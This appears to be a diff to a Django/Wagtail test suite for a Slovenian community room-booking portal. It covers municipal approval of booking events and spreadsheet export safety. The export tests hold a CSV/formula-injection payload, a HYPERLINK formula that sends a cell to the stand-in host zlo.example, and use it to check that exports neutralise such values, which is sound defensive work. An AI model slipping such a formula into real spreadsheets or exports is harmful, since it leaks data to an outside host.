@@ -7,8 +7,9 @@ from django.contrib.auth import get_user_model
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
+from wagtail.models import WorkflowState
 
-from portal.bookings import decisions
+from portal.bookings import decisions, links
 from portal.bookings.models import BookingRequest
 from portal.communities.provisioning import (
     add_community_editor,
@@ -32,8 +33,8 @@ def at(hour):
     return datetime.datetime.combine(DAY, datetime.time(hour), tzinfo=LJUBLJANA)
 
 
-def section(name):
-    ks = builders.community(f"KS {name}")
+def section(name, **fields):
+    ks = builders.community(f"KS {name}", **fields)
     provision_community(ks)
     ks.refresh_from_db()
     space = builders.space_with_hours(
@@ -52,6 +53,12 @@ def strazisce():
     return section("Stražišče")
 
 
+@pytest.fixture
+def zlato_polje():
+    """A KS whose publishing needs municipal approval."""
+    return section("Zlato polje", requires_approval=True)
+
+
 def request_for(space, purpose="Vaja zbora", start=17, end=19, is_public=True):
     return builders.booking_request(space, at(start), at(end), purpose, is_public)
 
@@ -60,6 +67,13 @@ def request_for(space, purpose="Vaja zbora", start=17, end=19, is_public=True):
 def ks_editor(golnik):
     user = get_user_model().objects.create_user("ks-golnik", password="x")
     add_community_editor(golnik[0], user)
+    return user
+
+
+@pytest.fixture
+def zlato_polje_editor(zlato_polje):
+    user = get_user_model().objects.create_user("ks-zlato-polje", password="x")
+    add_community_editor(zlato_polje[0], user)
     return user
 
 
@@ -208,13 +222,134 @@ def test_an_approval_that_postgresql_ends_in_a_deadlock_is_tried_again(
 def test_approval_can_publish_the_booking_in_the_ks_calendar(client, golnik, ks_editor):
     booking = request_for(golnik[1], "Delavnica šivanja")
     client.force_login(ks_editor)
-    client.post(reverse(INSPECT, args=[booking.pk]), {"decision": "approve", "publish_event": "on"})
+    page = client.get(reverse(INSPECT, args=[booking.pk])).content.decode()
+    assert "Objavi kot dogodek v koledarju KS" in page
+    assert "odobrijo občinski uredniki" not in page
+    response = client.post(
+        reverse(INSPECT, args=[booking.pk]),
+        {"decision": "approve", "publish_event": "on"},
+        follow=True,
+    )
+    assert "objavljen kot dogodek v koledarju KS" in response.content.decode()
     event = EventPage.objects.get()
     assert event.title == "Delavnica šivanja" and event.live
     assert event.space_id == golnik[1].pk
     assert event.get_parent().get_parent().pk == golnik[0].pk
+    client.logout()
+    assert client.get(event.url).status_code == 200
+    assert "Delavnica šivanja" in public_event_titles(client, golnik[0])
     week = client.get(golnik[1].url + "zasedenost/", {"teden": DAY.isoformat()}).content.decode()
     assert week.count("Delavnica šivanja") == 1  # the event shows it, not twice
+
+
+def public_event_titles(client, ks):
+    """The event titles anyone may read of `ks`: in the API's events and pages, its
+    calendar, the search and the sitemap (by slug), and its calendar feed."""
+    events = client.get("/api/v2/events/", {"community": ks.slug}).json()["items"]
+    pages = client.get("/api/v2/pages/", {"type": "events.EventPage", "limit": 100}).json()
+    calendar = client.get(f"{ks.url}dogodki/").content.decode()
+    found = client.get("/iskanje/", {"q": "šivanja"}).content.decode()
+    sitemap = client.get("/sitemap.xml").content.decode()
+    feed = client.get(f"/koledar/ks/{ks.slug}.ics").content.decode()
+    return {
+        *(item["title"] for item in events),
+        *(item["title"] for item in pages["items"]),
+        *(title for title in ["Delavnica šivanja"] if title in calendar + found + feed),
+        *(["Delavnica šivanja"] if "delavnica-sivanja" in sitemap else []),
+    }
+
+
+def test_under_municipal_approval_a_bookings_event_waits_for_the_municipal_editors(
+    client, zlato_polje, zlato_polje_editor, municipal
+):
+    """A KS whose publishing needs municipal approval cannot publish a requester's text
+    through a booking: its event is a draft submitted to the KS's approval workflow."""
+    ks, space = zlato_polje
+    booking = request_for(space, "Delavnica šivanja")
+    client.force_login(zlato_polje_editor)
+    page = client.get(reverse(INSPECT, args=[booking.pk])).content.decode()
+    assert "Objave v tej KS odobrijo občinski uredniki" in page
+    response = client.post(
+        reverse(INSPECT, args=[booking.pk]),
+        {"decision": "approve", "publish_event": "on"},
+        follow=True,
+    )
+    booking.refresh_from_db()
+    assert booking.is_approved and booking.dates.get().approved
+    event = EventPage.objects.get()
+    assert booking.event == event and not event.live
+    assert event.title == "Delavnica šivanja"
+    state = WorkflowState.objects.get(object_id=str(event.pk))
+    assert state.status == WorkflowState.STATUS_IN_PROGRESS
+    assert state.requested_by == zlato_polje_editor
+    assert "poslan v odobritev občinskim urednikom" in response.content.decode()
+
+    client.logout()
+    assert client.get(event.url).status_code == 404
+    assert "Delavnica šivanja" not in public_event_titles(client, ks)
+    week = client.get(space.url + "zasedenost/", {"teden": DAY.isoformat()}).content.decode()
+    assert "Delavnica šivanja" not in week
+    assert "zasedeno" in week
+
+    client.force_login(municipal)
+    assert "Delavnica šivanja" in client.get(reverse("wagtailadmin_home")).content.decode()
+    approve = reverse(
+        "wagtailadmin_pages:workflow_action",
+        args=[event.pk, "approve", state.current_task_state.pk],
+    )
+    assert client.post(approve, {"comment": ""}).status_code in (200, 302)
+    event.refresh_from_db()
+    assert event.live
+    client.logout()
+    assert client.get(event.url).status_code == 200
+    assert "Delavnica šivanja" in public_event_titles(client, ks)
+
+
+def test_under_municipal_approval_a_municipal_editor_publishes_a_bookings_event(
+    client, zlato_polje, municipal
+):
+    ks, space = zlato_polje
+    booking = request_for(space, "Delavnica šivanja")
+    client.force_login(municipal)
+    response = client.post(
+        reverse(INSPECT, args=[booking.pk]),
+        {"decision": "approve", "publish_event": "on"},
+        follow=True,
+    )
+    assert "objavljen kot dogodek v koledarju KS" in response.content.decode()
+    assert EventPage.objects.get().live
+    assert not WorkflowState.objects.exists()
+
+
+def test_cancelling_a_booking_withdraws_its_event_from_approval(
+    client, zlato_polje, zlato_polje_editor, municipal
+):
+    """The municipal editors are not left to approve the event of a cancelled booking."""
+    ks, space = zlato_polje
+    booking = request_for(space, "Delavnica šivanja")
+    client.force_login(zlato_polje_editor)
+    client.post(reverse(INSPECT, args=[booking.pk]), {"decision": "approve", "publish_event": "on"})
+    client.logout()
+    booking.refresh_from_db()
+    cancel = client.post(links.cancel_url(booking))
+    assert cancel.status_code in (200, 302)
+    booking.refresh_from_db()
+    assert booking.status == BookingRequest.Status.CANCELLED
+    state = WorkflowState.objects.get(object_id=str(booking.event_id))
+    assert state.status == WorkflowState.STATUS_CANCELLED
+    client.force_login(municipal)
+    assert "Delavnica šivanja" not in client.get(reverse("wagtailadmin_home")).content.decode()
+    assert not EventPage.objects.get().live
+
+
+def test_under_municipal_approval_the_week_view_names_no_approved_booking(client, zlato_polje):
+    """What a requester typed reaches the public of a KS under approval only through an
+    event the municipality approved."""
+    ks, space = zlato_polje
+    decisions.approve(request_for(space, "Vaja zbora"), None)
+    week = client.get(space.url + "zasedenost/", {"teden": DAY.isoformat()}).content.decode()
+    assert "Vaja zbora" not in week
+    assert "zasedeno" in week
 
 
 def test_declining_needs_a_message_and_sends_it(client, golnik, ks_editor, sent_mail):
@@ -294,3 +429,56 @@ def test_a_space_moved_to_another_ks_takes_its_requests_along(golnik, strazisce)
     golnik[1].move(strazisce[0], pos="last-child")
     booking.refresh_from_db()
     assert booking.community_id == strazisce[0].pk
+
+
+HOSTILE = '=HYPERLINK("http://zlo.example/?"&A1;"Kliknite")'
+
+
+def exported_rows(client, export):
+    """The rows of the listing's CSV or XLSX file, as a spreadsheet reads its cells."""
+    import csv
+    import io
+
+    import openpyxl
+
+    response = client.get(reverse(LIST), {"export": export})
+    assert response.status_code == 200
+    content = b"".join(response.streaming_content) if response.streaming else response.content
+    if export == "csv":
+        return list(csv.reader(io.StringIO(content.decode())))
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    for row in sheet.iter_rows(min_row=2):
+        assert all(cell.data_type != "f" for cell in row)
+    return [["" if value is None else str(value) for value in row] for row in sheet.values]
+
+
+@pytest.mark.parametrize("export", ["csv", "xlsx"])
+def test_the_export_cannot_carry_a_formula_into_a_spreadsheet(client, golnik, municipal, export):
+    """What a requester typed is written as text: a cell that a spreadsheet would read as
+    a formula gets a leading single quote (OWASP), the rest is left as typed."""
+    booking = request_for(golnik[1], HOSTILE)
+    BookingRequest.objects.filter(pk=booking.pk).update(
+        organisation="+SUM(1;2)", name="@Ana", phone="-1+1", email="\tana@example.org"
+    )
+    client.force_login(municipal)
+    heading, row = exported_rows(client, export)
+    cells = dict(zip(heading, row, strict=True))
+    assert cells["Namen"] == "'" + HOSTILE
+    assert cells["Organizacija"] == "'+SUM(1;2)"
+    assert cells["Ime in priimek"] == "'@Ana"
+    assert cells["Telefon"] == "'-1+1"
+    assert cells["E-pošta"] == "'\tana@example.org"
+    assert cells["Prostor"] == "Prostor Golnik"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
+
+
+def test_the_csv_quotes_every_cell_so_a_semicolon_starts_no_new_cell(client, golnik, municipal):
+    """A spreadsheet set to split on `;` (as Slovenian Excel is) must not find a formula
+    after a semicolon in a cell."""
+    request_for(golnik[1], "Vaja;=1+1")
+    client.force_login(municipal)
+    response = client.get(reverse(LIST), {"export": "csv"})
+    content = b"".join(response.streaming_content).decode()
+    assert '"Vaja;=1+1"' in content
+    for line in content.splitlines():
+        assert line.startswith('"') and line.endswith('"')
